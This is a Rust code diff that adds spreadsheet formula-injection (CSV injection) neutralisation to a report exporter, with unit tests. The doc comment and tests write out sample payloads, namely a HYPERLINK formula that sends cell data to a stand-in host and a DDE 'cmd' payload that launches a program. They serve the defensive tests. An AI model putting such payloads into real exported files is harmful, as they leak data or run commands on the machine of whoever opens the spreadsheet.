@@ -135,8 +135,8 @@ pub fn for_each_row(
     Ok(n)
 }
 
-/// A column value as CSV text: NULL is empty, blobs are hex.
-pub fn csv_field(v: ValueRef<'_>) -> String {
+/// A column value as plain text: NULL is empty, blobs are hex.
+pub fn text_value(v: ValueRef<'_>) -> String {
     match v {
         ValueRef::Null => String::new(),
         ValueRef::Integer(i) => i.to_string(),
@@ -144,6 +144,47 @@ pub fn csv_field(v: ValueRef<'_>) -> String {
         ValueRef::Text(t) => String::from_utf8_lossy(t).into_owned(),
         ValueRef::Blob(b) => hex::encode(b),
     }
+}
+
+/// A column value as a CSV field: [`text_value`], with text made
+/// [`spreadsheet_safe`] (numbers are numbers, never formulas).
+pub fn csv_field(v: ValueRef<'_>) -> String {
+    let text = text_value(v);
+    if let (ValueRef::Text(_), std::borrow::Cow::Owned(safe)) = (v, spreadsheet_safe(&text)) {
+        return safe;
+    }
+    text
+}
+
+/// Text that a spreadsheet would run as a formula, made inert.
+///
+/// Excel, LibreOffice and Google Sheets evaluate a CSV cell that starts
+/// with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
+/// formula. Calling numbers come from the outside world (a SIP caller id can
+/// be any text), so a CPN of `=HYPERLINK("http://x/?"&A1,"call back")`
+/// would run in finance's spreadsheet. Such a cell gets a leading `'`, the
+/// usual neutraliser (OWASP "CSV injection"). Plain numbers (`+8613800138000`,
+/// `-5`) are left alone: a spreadsheet reads them as numbers, not formulas.
+pub fn spreadsheet_safe(s: &str) -> std::borrow::Cow<'_, str> {
+    let risky = matches!(
+        s.as_bytes().first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    );
+    if risky && s.len() > 1 && !is_plain_number(s) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
+/// `[+-]digits[.digits]`: what a spreadsheet reads as a number.
+fn is_plain_number(s: &str) -> bool {
+    let digits = s.strip_prefix(['+', '-']).unwrap_or(s);
+    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
+    !int.is_empty()
+        && !frac.is_empty()
+        && int.bytes().all(|b| b.is_ascii_digit())
+        && frac.bytes().all(|b| b.is_ascii_digit())
 }
 
 /// A column value as JSON.
@@ -312,6 +353,37 @@ mod tests {
             &format!("-- name: t\n-- description: d\n-- params: from, to\n{sql}"),
         )
         .expect("report")
+    }
+
+    #[test]
+    fn spreadsheet_safe_neutralises_formulas_and_keeps_numbers() {
+        for (given, want) in [
+            ("=1+1", "'=1+1"),
+            (
+                "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
+                "'=HYPERLINK(\"http://x/?\"&A1,\"x\")",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("+86 138", "'+86 138"),
+            // Numbers, and text that is no formula, stay as they are.
+            ("+8613800138000", "+8613800138000"),
+            ("-5", "-5"),
+            ("-1.5", "-1.5"),
+            ("02161208234", "02161208234"),
+            ("a=b", "a=b"),
+            ("-", "-"),
+            ("", ""),
+            ("张三", "张三"),
+        ] {
+            assert_eq!(spreadsheet_safe(given), want, "{given:?}");
+        }
+        assert_eq!(csv_field(ValueRef::Text(b"=1+1")), "'=1+1");
+        assert_eq!(csv_field(ValueRef::Integer(-5)), "-5");
+        assert_eq!(text_value(ValueRef::Text(b"=1+1")), "=1+1");
     }
 
     #[test]
